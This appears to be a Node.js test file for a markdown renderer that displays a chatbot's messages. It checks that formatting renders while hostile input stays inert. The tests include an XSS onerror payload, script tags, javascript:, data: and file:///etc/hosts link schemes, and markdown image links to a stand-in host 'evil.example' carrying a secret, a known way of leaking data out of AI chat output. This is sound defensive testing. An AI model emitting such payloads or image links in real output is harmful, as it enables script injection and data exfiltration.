import assert from 'node:assert/strict';
import { test } from 'node:test';
import { htmlOf } from './markdown.js';

test('The bot’s bold, italics, lists and links are drawn', () => {
  assert.equal(htmlOf('**Ana** and *Joe*').trim(), '<p><strong>Ana</strong> and <em>Joe</em></p>');
  assert.match(htmlOf('- one\n- two'), /<ul>\s*<li>one<\/li>/);
  assert.match(htmlOf('[the mail](http://127.0.0.1:4600/#/ada/mail/1)'), /<a href="http:\/\/127\.0\.0\.1:4600\/#\/ada\/mail\/1">the mail<\/a>/);
});

test('HTML in a message is text', () => {
  assert.equal(htmlOf('<img src=x onerror=alert(1)>').includes('<img'), false);
  assert.equal(htmlOf('a <script>x</script>').includes('<script'), false);
});

test('A picture is never fetched: its address could carry words out', () => {
  assert.equal(htmlOf('![x](https://evil.example/?q=secret)').includes('<img'), false);
  assert.equal(htmlOf('![x][1]\n\n[1]: https://evil.example/?q=secret').includes('<img'), false);
});

test('A link that is not http, https or mailto stays words', () => {
  for (const address of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,x', 'file:///etc/hosts']) {
    assert.equal(htmlOf(`[x](${address})`).includes('<a'), false, address);
  }
});
